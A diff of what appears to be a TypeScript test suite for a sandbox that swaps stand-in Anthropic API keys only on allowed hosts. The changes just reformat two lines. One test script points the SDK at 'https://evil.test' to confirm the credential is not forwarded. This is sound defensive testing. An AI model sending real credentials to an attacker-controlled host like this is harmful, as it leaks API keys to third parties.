@@ -16,7 +16,9 @@ let clients: SandboxClients;
 
 before(async () => {
   // An api-key secret on x-api-key without the provider shortcut: a Bearer stand-in is not in its shape.
-  clients = await startSandboxClients('node', { CLAUDE_KEY: { name: 'claude-custom', auth: { type: 'api-key', header: 'x-api-key' }, hosts: ['api.anthropic.com'] } });
+  clients = await startSandboxClients('node', {
+    CLAUDE_KEY: { name: 'claude-custom', auth: { type: 'api-key', header: 'x-api-key' }, hosts: ['api.anthropic.com'] },
+  });
 });
 
 after(() => clients?.close());
@@ -58,7 +60,10 @@ describe('explicit mode: Node clients with the sandbox env alone', { concurrency
 });
 
 describe('a stand-in is swapped wherever the SDK put it, and only for its hosts (§3)', { concurrency: true }, () => {
-  for (const [label, pkg] of [['1.x', '@anthropic-ai/sdk'], ['0.x', 'anthropic-sdk-v0']] as const) {
+  for (const [label, pkg] of [
+    ['1.x', '@anthropic-ai/sdk'],
+    ['0.x', 'anthropic-sdk-v0'],
+  ] as const) {
     test(`@anthropic-ai/sdk ${label} aimed at another host: 403 credential_host_mismatch, nothing forwarded`, async () => {
       const script = `import Anthropic from '${pkg}';
         try { await new Anthropic({ baseURL: 'https://evil.test', maxRetries: 0 }).messages.create(${MESSAGE}); console.log('forwarded'); }
